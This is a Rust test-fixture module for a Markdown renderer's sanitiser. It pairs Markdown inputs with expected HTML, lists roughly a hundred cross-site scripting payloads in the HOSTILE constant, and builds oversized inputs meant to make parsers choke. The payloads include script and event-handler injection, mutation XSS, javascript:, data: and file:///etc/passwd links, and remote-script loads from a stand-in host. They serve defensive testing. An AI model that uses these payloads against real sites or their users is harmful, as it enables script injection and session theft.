//! Texts: what people write, what attackers write, and what machines choke on.

/// Markdown and what it becomes.
pub const FORMATTED: &[(&str, &str)] = &[
    ("hello", "<p dir=\"auto\">hello</p>"),
    ("a < b & c", "<p dir=\"auto\">a &lt; b &amp; c</p>"),
    ("one\ntwo", "<p dir=\"auto\">one<br>two</p>"),
    ("one\n\ntwo", "<p dir=\"auto\">one</p><p dir=\"auto\">two</p>"),
    ("**b** *i* ~~d~~ `c`", "<p dir=\"auto\"><strong>b</strong> <em>i</em> <del>d</del> <code>c</code></p>"),
    ("snake_case_name 2*3*4", "<p dir=\"auto\">snake_case_name 2<em>3</em>4</p>"),
    ("> a\n> b", "<blockquote dir=\"auto\"><p dir=\"auto\">a<br>b</p></blockquote>"),
    ("- a\n- b", "<ul><li dir=\"auto\">a</li><li dir=\"auto\">b</li></ul>"),
    ("3. a\n4. b", "<ol start=\"3\"><li dir=\"auto\">a</li><li dir=\"auto\">b</li></ol>"),
    (
        "- [x] done\n- [ ] not",
        "<ul><li class=\"task\" dir=\"auto\"><input checked=\"\" type=\"checkbox\" disabled=\"\"> done</li>\
        <li class=\"task\" dir=\"auto\"><input type=\"checkbox\" disabled=\"\"> not</li></ul>",
    ),
    ("```rust\nlet a = 1 < 2;\n```", "<pre dir=\"ltr\"><code class=\"language-rust\">let a = 1 &lt; 2;\n</code></pre>"),
    ("```evil\" onload=\nx\n```", "<pre dir=\"ltr\"><code>x\n</code></pre>"),
    ("# Title", "<h1 dir=\"auto\">Title</h1>"),
    ("#channel is no title", "<p dir=\"auto\">#channel is no title</p>"),
    ("words\n---", "<p dir=\"auto\">words</p><hr>"),
    (
        "| a | b |\n|:-:|--:|\n| 1 | 2 |",
        "<div class=\"table\"><table><thead><tr><th class=\"center\" dir=\"auto\">a</th><th class=\"right\" dir=\"auto\">b</th>\
        </tr></thead><tbody><tr><td class=\"center\" dir=\"auto\">1</td><td class=\"right\" dir=\"auto\">2</td></tr></tbody>\
        </table></div>",
    ),
    (
        "see https://e.org/a?b=1&c=2.",
        "<p dir=\"auto\">see <a href=\"https://e.org/a?b=1&amp;c=2\" target=\"_blank\" dir=\"auto\" \
        rel=\"noopener noreferrer nofollow\">https://e.org/a?b=1&amp;c=2</a>.</p>",
    ),
    (
        "![cat](https://e.org/cat.png)",
        "<p dir=\"auto\"><a href=\"https://e.org/cat.png\" target=\"_blank\" dir=\"auto\" \
        rel=\"noopener noreferrer nofollow\">cat</a></p>",
    ),
    ("[x](/admin) [y](javascript:alert(1)) [z](//e.org)", "<p dir=\"auto\">x y z</p>"),
    ("<b>bold</b> <!-- c -->", "<p dir=\"auto\">&lt;b&gt;bold&lt;/b&gt; &lt;!-- c --&gt;</p>"),
    ("<div>\n*a*\n</div>", "<p dir=\"auto\">&lt;div&gt;<br>*a*<br>&lt;/div&gt;</p>"),
    (":tada: :nothing:", "<p dir=\"auto\">🎉 :nothing:</p>"),
    ("   ", ""),
];

/// What was tried on others: scripts, handlers, schemes, namespaces, mutations, half tags, breaking out of attributes.
pub const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//e.org/x></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x` `<script>javascript:alert(1)</script>\"` `>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<title><a href=\"</title><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<iframe src=javascript:alert(1)>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<embed src=\"javascript:alert(1)\">",
    "<base href=\"https://e.org/\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=//e.org/x.css>",
    "<style>@import'//e.org/x.css';</style>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<div style=\"position:fixed;inset:0\">x</div>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<template><s><img src=x onerror=alert(1)></s></template>",
    "<table><td><svg><desc><td></desc><style><img src onerror=alert(1)></style></svg>",
    "<isindex action=javascript:alert(1) type=image>",
    "<marquee onstart=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<a href=x target=_top id=app name=cookie>clobber</a>",
    "<form id=document><input name=cookie></form>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](java\u{200B}script:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://e.org/1)",
    "[x](filesystem:https://e.org/1)",
    "[x](ms-settings:privacy)",
    "[x](//e.org)",
    "[x](/api/v1/auth/logout)",
    "[x](/channels/../admin)",
    "[x](https://e.org\" onmouseover=\"alert(1))",
    "[x](<https://e.org/ \" onmouseover=alert(1)>)",
    "[x](https://e.org 'title\" onmouseover=\"alert(1)')",
    "[x](https://e.org \"</a><script>alert(1)</script>\")",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](https://e.org/p.png?secret=1)",
    "![<script>alert(1)</script>](https://e.org)",
    "![x\" onerror=\"alert(1)](https://e.org)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<https://e.org/\"onmouseover=alert(1)>",
    "https://e.org/\"><script>alert(1)</script>",
    "www.e.org/'><img/src/onerror=alert(1)>",
    "`</code><script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```html\"><script>alert(1)</script>\nx\n```",
    "``` \"onclick=alert(1)\nx\n```",
    "# <img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\<script>alert(1)\\</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<a<b onmouseover=alert(1)>x",
    "<<script>alert(1);//<</script>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "@<script>alert(1)</script>",
    "#\"><script>alert(1)</script>",
    ":<script>:",
    "\u{FF1C}script\u{FF1E}alert(1)\u{FF1C}/script\u{FF1E}",
    "\u{202E}<script>alert(1)</script>",
    "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "\u{FEFF}<svg/onload=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
    "<div data-user-id=\"1\" class=\"mention\">@ada</div>",
    "<span class=\"mention\" data-user-id=\"00000000-0000-0000-0000-000000000000\">@ada</span>",
];

/// What random texts are made of.
pub const PIECES: &[&str] = &[
    "<", ">", "\"", "'", "&", "/", "\\", "`", "```", "\n", "\n\n", "    ", "*", "**", "_", "~~", "[", "](", ")", "![",
    "# ", "> ", "- ", "- [x] ", "1. ", "|", "|---|", "---", "<script>", "</script>", "<svg>", "<math>", "<style>", "</style>",
    "<img src=x onerror=alert(1)>", "<!--", "-->", "<![CDATA[", "]]>", "<a href=", "javascript:alert(1)", "data:text/html,",
    "https://e.org/", "www.e.org", "a@e.org", "mailto:", "@ada", "@channel", "#ops", ":tada:", ":x", "&lt;", "&#x6A;", "&colon;",
    "\u{202E}", "\u{200B}", "\u{0}", "\u{FEFF}", "\t", "<p>", "</p>", "<table>", "<td>", "<select>", "<template>", "<noscript>",
    "<title>", "<textarea>", "<foreignObject>", "<annotation-xml>", "<mglyph>", "[a]: ", "word", " ", "é", "👋", "مرحبا",
];

/// What needs no formatting.
pub const WORDS: &[&str] =
    &["tide", "Grüße", "(yes)", "no;", "50%", "a.b", "then...", "либо", "и/или", "“quoted”", "it's", "3", "海", "👋", "why?", "\"so\""];

/// Texts of at most 16,000 characters that parsers have choked on.
pub fn worst() -> Vec<(&'static str, String)> {
    let filled = |piece: &str| piece.repeat(16_000 / piece.chars().count());
    let nested_lists: String = (0..170).map(|depth| format!("{}- a\n", " ".repeat(depth))).collect();
    let wide = format!("{}\n{}\n{}", "|".repeat(5_000), "|-".repeat(2_500), "|\n".repeat(2_900));
    let long = format!("|a|b|\n|-|-|\n{}", "|1|2|\n".repeat(2_600));
    let references: String = (0..900).map(|number| format!("[{number}]: /u\n")).collect();
    let uses: String = (0..900).map(|number| format!("[{number}]")).collect();
    let mut found: Vec<(&'static str, String)> = [
        (">", ">"), ("> ", "> "), ("[", "["), ("]", "]"), ("![", "!["), ("*", "*"), ("**a ", "**a "), ("*a_", "*a_"), ("_", "_"),
        ("~~a", "~~a"), ("`", "`"), ("`a``", "`a``"), ("<", "<"), ("<!--", "<!--"), ("<![CDATA[", "<![CDATA["), ("<?", "<?"),
        ("<a ", "<a "), ("&", "&"), ("&amp;", "&amp;"), ("[a](", "[a]("), ("[a](<b", "[a](<b"), ("](", "]("), ("[]()", "[]()"),
        ("[a][b]", "[a][b]"), ("\\", "\\"), ("- ", "- "), ("1. ", "1. "), ("# ", "# "), ("#\n", "#\n"), ("\n", "a\n"),
        ("|", "|"), ("|-", "|-"), ("http://", "http://"), ("www.", "www."), ("www.a.", "www.a."), ("a@a.", "a@a."), ("a@", "a@"),
        (":", ":"), (":a", ":a"), (":a:", ":a:"), ("@", "@"), ("@a", "@a"), ("#", "#"), ("#a", " #a"), ("(", "("), ("http://(", "http://("),
        ("'", "'"), ("é", "é"), ("👋", "👋"), ("{", "{"), ("$", "$"), ("^", "^"), ("**_~~", "**_~~"), ("![[", "![["), ("a**b", "a**b"),
    ]
    .into_iter()
    .map(|(name, piece)| (name, filled(piece)))
    .collect();
    found.push(("nested emphasis", format!("{}a{}", "*a **a ".repeat(1_100), "b** b*".repeat(1_300))));
    found.push(("nested brackets", format!("{}a{}", "[".repeat(5_000), "](u)".repeat(2_500))));
    found.push(("nested images", format!("{}a{}", "![".repeat(2_600), "](u)".repeat(2_600))));
    found.push(("nested lists", nested_lists));
    found.push(("a wide table", wide));
    found.push(("a long table", long));
    found.push(("references", format!("{references}\n{uses}").chars().take(16_000).collect()));
    found.push(("quotes in lines", ">>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>a\n".repeat(380)));
    found.push(("lists in quotes", "> - 1. > - 1. > - 1. a\n".repeat(690)));
    found
}
